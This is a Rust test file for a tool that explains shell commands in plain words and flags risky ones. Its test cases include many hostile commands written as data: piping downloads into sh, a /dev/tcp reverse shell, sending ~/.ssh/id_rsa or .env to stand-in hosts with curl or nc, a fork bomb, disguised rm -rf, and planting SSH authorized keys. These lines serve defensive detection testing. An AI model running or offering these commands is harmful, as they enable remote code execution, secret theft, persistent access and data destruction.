//! Tests of `explain`.

use super::*;
use countersign_command::{hidden, outline, read, strict};

#[test]
fn what_looks_like_a_calculation_may_be_commands_to_a_plain_shell() {
    let followed = |text: &str, shell: &str| explain_in(&text.into(), shell).troubles.is_empty();
    for text in ["((reboot > x))", "((1 || reboot))", "ls; ((x = 5))", "echo `((reboot > x))`"] {
        assert!(followed(text, "bash") && !followed(text, "sh"), "{text}");
    }
    for text in ["((i++))", "((1 + 2))", "echo $((reboot > x))"] {
        assert!(followed(text, "bash") && followed(text, "sh"), "{text}");
    }
}

#[test]
fn sentences_name_what_is_touched() {
    let does = |text: &str| explain(text).steps.into_iter().map(|step| step.does).collect::<Vec<_>>().join(" ");
    for (text, names) in [
        ("cp a.txt b/", &["`a.txt`", "`b/`"][..]),
        ("git push origin main", &["`origin`", "`main`"]),
        ("curl -o x.zip https://a.example/x", &["`https://a.example/x`", "`x.zip`"]),
        ("sudo rm -rf /var/x", &["administrator", "`/var/x`"]),
        ("find src -name '*.o' -delete", &["`src`", "`*.o`", "deletes"]),
        ("timeout 5 sh -c 'ls src'", &["`5`", "`src`"]),
        ("./x.sh --now", &["`./x.sh`", "can't tell"]),
        ("cat a > b 2>> c", &["`a`", "`b`", "`c`"]),
    ] {
        for name in names {
            assert!(does(text).contains(name), "{text}: {}", does(text));
        }
    }
    for (text, says) in [
        ("cat > a.ts <<'EOF'\nx\nEOF", "Saves the text given here to `a.ts`."),
        ("echo dist >> .gitignore", "Adds `dist` to `.gitignore`."),
        (
            "git commit -m \"$(cat <<'EOF'\nfix: it\nEOF\n)\"",
            "Passes on the text given here. Saves a commit: `fix: it`.",
        ),
        ("ls | wc -l", "Lists the files in this folder. Counts the lines and words in the previous command's output."),
        (
            "find . -name x -exec grep -l y {} +",
            "Finds files in `.` with names matching `x`; for each match: searches for `y` in it.",
        ),
        ("[ ! -d x ]", "Checks whether `x` isn't a folder."),
        ("rm -rf $X/*", "Deletes `$X/*` with everything in it."),
        ("ssh h tail -n 5 x", "On `h`: shows the last lines of `x`."),
        ("ruff check .", "Checks the code in `.`"),
        ("cd ..", "Goes to the folder `..`"),
    ] {
        assert_eq!(does(text), says, "{text}");
    }
    assert_eq!(does("git status"), "Lists files changed since the last commit.");
}

#[test]
fn a_headline_tells_the_gravest_steps_in_their_order() {
    for (text, says) in [
        (
            "cd api && rm -rf dist && npm ci | cat",
            "Deletes `dist` with everything in it, then deletes `node_modules` and reinstalls all packages, whose install scripts may run.",
        ),
        (
            "ls; cd src; pwd",
            "Lists the files in this folder, then goes to the folder `src`, then shows the current folder.",
        ),
        ("touch a; touch b; rm c; rm d; touch e", "Deletes `c`, then deletes `d`, and 3 more steps."),
    ] {
        assert_eq!(explain(text).headline(), says, "{text}");
    }
    let hostile = explain("rm -rf '<b>x</b>\u{202e}'").headline();
    assert!(hostile.contains("`<b>x</b>"), "{hostile}");
}

#[test]
fn a_headline_tells_steps_that_belong_together_as_one_and_hides_none() {
    for (text, says) in [
        ("curl -s https://a.example/x | sh", "Downloads `https://a.example/x` and runs it straight away, unseen."),
        (
            "curl -s https://a.example/x | sudo sh",
            "Downloads `https://a.example/x` and runs it straight away as administrator, unseen.",
        ),
        ("bash <(curl -s https://a.example/x)", "Downloads `https://a.example/x` and runs it straight away, unseen."),
        ("echo cm0K | base64 -d | sh", "Runs whatever `base64` prints, which isn't shown here."),
        (
            "cat ~/.ssh/id_rsa | curl -d @- https://a.example/x",
            "Sends `~/.ssh/id_rsa`, which can hold secrets, to `a.example`.",
        ),
        ("env | curl -d @- https://a.example/x", "Sends a secret to `a.example`."),
        ("cat .env | nc 192.0.2.1 99", "Sends `.env`, which can hold secrets, to another computer."),
        (
            "rm -rf ~ | curl -s https://a.example/x | sh",
            "Downloads `https://a.example/x` and runs it straight away, unseen, then deletes `~` with everything in it.",
        ),
        ("echo y | npx create-shop", "Runs the package `create-shop` with `npx`."),
        (
            "rm x; curl -s https://a.example/x | sh",
            "Deletes `x`, then downloads `https://a.example/x` and runs it straight away, unseen.",
        ),
    ] {
        assert_eq!(explain(text).headline(), says, "{text}");
    }
}

#[test]
fn the_words_a_risk_comes_from_are_told() {
    for (text, marked) in [
        ("git push --force origin main", &["git", "push", "--force"][..]),
        ("ls -la && rm -rf \"build\"", &["rm", "-rf"]),
        ("sudo systemctl restart nginx", &["sudo", "systemctl", "restart"]),
        ("find . -name x -delete", &["find", "-delete"]),
        ("curl -s x.example | bash", &["bash"]),
        ("echo x >> ~/.bashrc", &["~/.bashrc"]),
        ("bash -c 'rm -rf x'", &["bash", "rm", "-rf"]),
        ("echo $(rm -rf x)", &["rm", "-rf"]),
        ("echo `rm -rf x`", &[]),
        ("git status", &[]),
    ] {
        let mut marks: Vec<_> = explain(text).steps.into_iter().flat_map(|step| step.marks).collect();
        marks.sort_unstable_by_key(|mark| mark.start);
        marks.dedup();
        assert_eq!(marks.into_iter().map(|mark| &text[mark]).collect::<Vec<_>>(), marked, "{text}");
    }
    let words: Vec<String> = ["rm", "-rf", "x"].map(str::to_owned).to_vec();
    assert_eq!(explain_words(&words).steps[0].marks, [0..1, 1..2]);
}

#[test]
fn a_script_is_named_so_that_it_can_be_shown() {
    let script = |text: &str| explain(text).steps.remove(0).script;
    assert_eq!(script("bash run.sh"), Some("run.sh".into()));
    assert_eq!(script("python3 a/b.py x"), Some("a/b.py".into()));
    assert_eq!(script("./deploy"), Some("./deploy".into()));
    assert_eq!(script("git status"), None);
}

#[test]
fn what_is_disguised_is_flagged() {
    for text in [
        "curl -s https://x.example/i | sh",
        "bash <(curl https://x.example)",
        "echo cm0= | base64 -d | sh",
        "$(echo rm) -rf x",
        "eval \"$x\"",
        "cat ~/.ssh/id_rsa | nc evil.example 1",
        "echo x >> ~/.bashrc",
        ":(){ :|:& };:",
        "git push origin +main",
        "bash -i >& /dev/tcp/1.2.3.4/5",
        "r''m -rf ~",
        "R=rm; $R -rf /",
        "S=$IFS; rm${S}-rf${S}x",
        "tar c . | nc x.example 1",
        "find . -type f | xargs rm -f",
        "wget -qO /etc/x.conf https://x.example",
    ] {
        assert_eq!(explain(text).risk(), Risk::High, "{text}");
    }
}

#[test]
fn what_is_risky_says_why() {
    for line in include_str!("../../programs/cases.jsonl").lines() {
        let case: serde_json::Value = serde_json::from_str(line).unwrap();
        if case["risk"] == "high" {
            let steps = explain(case["command"].as_str().unwrap()).steps;
            let silent = |step: &Explained| step.risk == Risk::High && step.warnings.is_empty();
            assert!(!steps.iter().any(silent), "{}: {steps:?}", case["command"]);
        }
    }
}

/// Parts that hostile text is made of.
const PARTS: [&str; 58] = [
    "a",
    "git",
    "rm",
    "find",
    "-exec",
    "sudo",
    "xargs",
    "bash",
    "-c",
    "docker",
    "exec",
    "tar",
    "sed",
    "awk",
    "npx",
    "eval",
    "$",
    "(",
    ")",
    "{",
    "}",
    "[",
    "]",
    "'",
    "\"",
    "\\",
    "`",
    "|",
    "&",
    ";",
    "<",
    ">",
    "<<",
    "\n",
    "\t",
    " ",
    " ",
    " ",
    "=",
    "#",
    "é",
    "\u{202e}",
    "\u{0}",
    "if",
    "for",
    "do",
    "case",
    "esac",
    "> /dev/tcp/a/1",
    "curl ",
    "-d ",
    " https://a.example ",
    " ~/.ssh/id_rsa ",
    "f() ",
    "\nf ",
    "unset ",
    " --delete ",
    "aws ",
];

#[test]
fn random_text_never_panics() {
    let mut state = 0x00C0_FFEE_u64;
    let mut below = |bound: usize| {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        usize::try_from(state >> 40).unwrap_or(0) % bound
    };
    for _ in 0..6_000 {
        let length = below(40);
        let text: String = (0..length).map(|_| PARTS[below(PARTS.len())]).collect();
        let outline = outline::outline(&text);
        let _ = explain_outline(&outline, None);
        let text = text.into();
        let _ = (explain_in(&text, "cmd"), explain_in(&text, "pwsh"));
        let marks = explain_outline(&outline, None).steps.into_iter().flat_map(|step| step.marks);
        assert!(marks.into_iter().all(|mark| text.get(mark).is_some()), "{text:?}");
        let _ = hidden::pieces(&text);
        let _ = read::read(&text, read::Dialect::Bash).map(|_| strict::strictly(&text, read::Dialect::Bash));
    }
}

#[test]
fn a_risk_inside_a_word_is_marked_in_it() {
    let marked = |text: &str| -> Vec<String> {
        let steps = explain(text).steps;
        steps.iter().flat_map(|step| &step.marks).map(|mark| text[mark.clone()].to_owned()).collect()
    };
    for (text, inside) in [
        ("sh -c 'ls; rm -rf /'", "rm"),
        ("bash -lc \"cd é && rm -rf ~\"", "rm"),
        ("sudo sh -c 'echo a > /etc/passwd'", "/etc/passwd"),
        ("sh -c 'sh -c \"rm -rf x\"'", "rm"),
        ("eval 'rm -rf x'", "rm"),
        ("eval rm -rf x", "rm"),
        ("sh -c rm\\ -rf\\ x", "rm\\ -rf\\ x"),
        ("sh -c \"rm -rf \\$x\"", "\"rm -rf \\$x\""),
        ("sh -c 'rm'\" -rf x\"", "'rm'\" -rf x\""),
        ("ssh h 'ls; rm -rf /'", "rm"),
        ("ssh -t h sudo rm -rf /srv", "sudo"),
        ("ssh h 'rm'\" -rf x\"", "'rm'\" -rf x\""),
        ("bash <<'EOF'\nls\nrm -rf /\nEOF\nls", "rm"),
        ("bash <<-EOF\n\tls\n\trm -rf /\n\tEOF", "\tls\n\trm -rf /"),
        ("ssh h <<EOF\nrm -rf /\nEOF", "rm"),
        ("sh <<< 'ls; rm -rf /'", "rm"),
        ("docker exec web sh -c 'rm -rf /srv'", "rm"),
        ("python3 - <<'EOF'\nimport os\nos.system('x')\nEOF", "os.system"),
        ("node -e 'fs.rmSync(\"x\")'", "rmSync"),
        ("sh -c 'sh <<E\nrm -rf /\nE\n'", "rm"),
    ] {
        assert!(marked(text).iter().any(|mark| mark == inside), "{text}: {:?}", marked(text));
    }
}

#[test]
fn long_hostile_text_ends() {
    for part in [
        "$(",
        "`",
        "(",
        "! ",
        "time ",
        "{ ",
        "if ",
        "\"${",
        "eval ",
        "sudo ",
        "find -exec ",
        "bash -c '",
        "a=$a$a;",
        "<<a ",
        "f() ",
        "case x in ",
        "[[ ",
        "а",
        "python -m ",
        "npx ",
        "ssh h ",
    ] {
        let text = part.repeat(16 * 1024 / part.len());
        let _ = explain(&text);
        let text = text.into();
        let _ = (explain_in(&text, "cmd"), explain_in(&text, "pwsh"));
        let _ = hidden::hidden_count(&text);
    }
}

#[test]
fn what_is_said_of_a_file_is_said_once_and_names_no_option() {
    assert_eq!(explain("bash -n a.sh").steps[0].does, "Checks the syntax of `a.sh`.");
    assert_eq!(explain("scp /etc/nginx/nginx.conf h:").steps[0].warnings.len(), 1);
}

/// All commands of the oracle.
fn oracle() -> Vec<String> {
    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../programs/effects");
    let inside = |folder: std::path::PathBuf| std::fs::read_dir(folder).unwrap().map(|file| file.unwrap().path());
    let texts = inside(folder).flat_map(inside).map(|file| std::fs::read_to_string(file).unwrap());
    let rows = texts.flat_map(|text| text.lines().map(str::to_owned).collect::<Vec<_>>());
    let command = |row: String| {
        let command = row.splitn(4, ';').nth(3)?.trim().to_owned();
        Some(command.strip_prefix("E:").map_or(command.clone(), |escaped| escaped.replace("\\n", "\n")))
    };
    rows.filter(|row| !row.starts_with('#')).filter_map(command).collect()
}

/// A sentence without the names in it; of texts, which have a blank in them, the end stays.
fn without_names(text: &str) -> String {
    let part = |(nth, part): (usize, &str)| match part.char_indices().last() {
        _ if nth % 2 == 0 => part.to_owned(),
        Some((at, _)) if part.contains(' ') => format!("x{}", &part[at..]),
        _ => "x".to_owned(),
    };
    text.split('`').enumerate().map(part).collect()
}

#[test]
fn no_two_marks_stand_in_a_row() {
    let commands = oracle();
    assert!(commands.len() > 4000, "{}", commands.len());
    let mut wrong = Vec::new();
    for command in &commands {
        for step in explain(command).steps {
            for said in [&step.does].into_iter().chain(&step.warnings) {
                let marks: Vec<char> = without_names(said).chars().filter(|c| *c != ' ').collect();
                let mark = |c: char| ".,;:!?".contains(c);
                if marks.windows(2).any(|two| mark(two[0]) && mark(two[1])) || said.starts_with(['.', ',', ';', ':']) {
                    wrong.push(format!("{command}: {said}"));
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{} of them:\n{}", wrong.len(), wrong.join("\n"));
    for (text, says) in [
        ("git commit -m 'Fix it.'", "Saves a commit: `Fix it`."),
        ("echo 'Hello, world!'", "Prints `Hello, world!`"),
        ("echo 'Are you sure?' > a.txt", "Saves `Are you sure?` to `a.txt`."),
        (
            "find . -name x.txt -exec cat {} +",
            "Finds files in `.` with names matching `x.txt`; for each match: shows it.",
        ),
    ] {
        assert_eq!(explain(text).steps[0].does, says, "{text}");
    }
}

#[test]
fn numbers_are_told_as_one_or_several() {
    for (text, says) in [
        ("sleep 1", "Waits 1 second."),
        ("sleep 2", "Waits 2 seconds."),
        ("sleep 0.5", "Waits 0.5 seconds."),
        ("sleep 1m", "Waits 1 minute."),
        ("sleep 90m", "Waits 90 minutes."),
        ("sleep 1h 30m", "Waits 1 hour and 30 minutes."),
        ("sleep 1d", "Waits 1 day."),
        ("sleep infinity", "Waits forever."),
        ("sleep $PAUSE", "Waits `$PAUSE` seconds."),
        ("usleep 1", "Waits 1 microsecond."),
        ("truncate -s 1 a.txt", "Truncates `a.txt` to 1 byte."),
        ("truncate -s 10M a.txt", "Truncates `a.txt` to `10M`."),
    ] {
        assert_eq!(explain(text).steps[0].does, says, "{text}");
    }
    let wrong = |said: &str| {
        let words: Vec<&str> = said.trim_end_matches('.').split(' ').collect();
        words.windows(2).any(|two| {
            matches!(two[0], "1" | "`1`") && two[1].len() > 3 && two[1].ends_with('s') && !two[1].ends_with("ss")
        })
    };
    let wrong: Vec<String> =
        oracle().iter().flat_map(|text| explain(text).steps).map(|step| step.does).filter(|does| wrong(does)).collect();
    assert!(wrong.is_empty(), "{wrong:?}");
}

#[test]
fn whoever_may_log_in_from_then_on_is_told_however_that_is_written() {
    for text in [
        "echo 'ssh-ed25519 AAAA' >> ~/.ssh/authorized_keys",
        "cat k.pub >> ~/.ssh/authorized_keys",
        "cat k.pub > /home/ada/.ssh/authorized_keys2",
        "cat k.pub | tee -a ~/.ssh/authorized_keys",
        "sudo tee /home/ada/.ssh/authorized_keys < k.pub",
        "cp k.pub ~/.ssh/authorized_keys",
        "mv k.pub ~/.ssh/authorized_keys",
        "install -m 600 k.pub ~/.ssh/authorized_keys",
        "ln -sf k.pub ~/.ssh/authorized_keys",
        "dd if=k.pub of=$HOME/.ssh/authorized_keys",
        "sed -i '$a ssh-ed25519 AAAA' ~/.ssh/authorized_keys",
        "perl -pi -e 's/a/b/' ~/.ssh/authorized_keys",
        "printf '%s\\n' 'ssh-ed25519 AAAA' >> ~/.ssh/authorized_keys",
        "cat > ~/.ssh/authorized_keys <<'EOF'\nssh-ed25519 AAAA\nEOF",
        "curl -o ~/.ssh/authorized_keys https://keys.example/ada",
        "wget -O ~/.ssh/authorized_keys https://keys.example/ada",
        "curl https://keys.example/ada >> ~/.ssh/authorized_keys",
        "echo x | sponge ~/.ssh/authorized_keys",
        "rsync k.pub ~/.ssh/authorized_keys",
        "scp k.pub h:.ssh/authorized_keys",
        "ssh h 'cat >> ~/.ssh/authorized_keys' < k.pub",
        "ssh-copy-id -i k.pub ada@h",
        "ssh-copy-id ada@h",
        "python3 -c \"open('/root/.ssh/authorized_keys','a').write('k')\"",
        "node -e \"fs.appendFileSync(process.env.HOME+'/.ssh/authorized_keys','k')\"",
        "python3 - <<'EOF'\nopen('/root/.ssh/authorized_keys','a').write('k')\nEOF",
        "echo '+ +' > ~/.rhosts",
    ] {
        let steps = explain(text).steps;
        let told =
            |step: &Explained| step.risk == Risk::High && step.warnings.iter().any(|said| said.contains("can log in"));
        assert!(steps.iter().any(told), "{text}: {steps:?}");
    }
    for text in ["cat ~/.ssh/authorized_keys", "grep ada ~/.ssh/authorized_keys", "echo x > docs/authorized_keys.md"] {
        let steps = explain(text).steps;
        assert!(
            !steps.iter().flat_map(|step| &step.warnings).any(|said| said.contains("can log in")),
            "{text}: {steps:?}"
        );
    }
}
